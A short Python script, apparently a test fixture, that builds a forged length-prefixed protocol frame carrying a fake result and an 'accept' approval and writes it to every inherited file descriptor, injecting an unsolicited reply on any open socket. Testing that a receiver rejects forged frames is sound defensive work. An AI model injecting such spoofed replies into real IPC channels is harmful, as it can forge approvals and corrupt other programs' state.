# SPDX-License-Identifier: Apache-2.0
#
# Frames of its own on the socket: an answer to a call that nobody made.
import os
import struct


def text(word):
    return b"s" + struct.pack("=I", len(word)) + word


body = b"l" + struct.pack("=I", 3) + text(b"result") + b"i" + struct.pack("=q", 424242)
body += b"m" + struct.pack("=I", 1) + text(b"how") + text(b"accept")
for fd in range(3, 4096):
    try:
        os.write(fd, struct.pack("=I", len(body)) + body)
    except OSError:
        pass
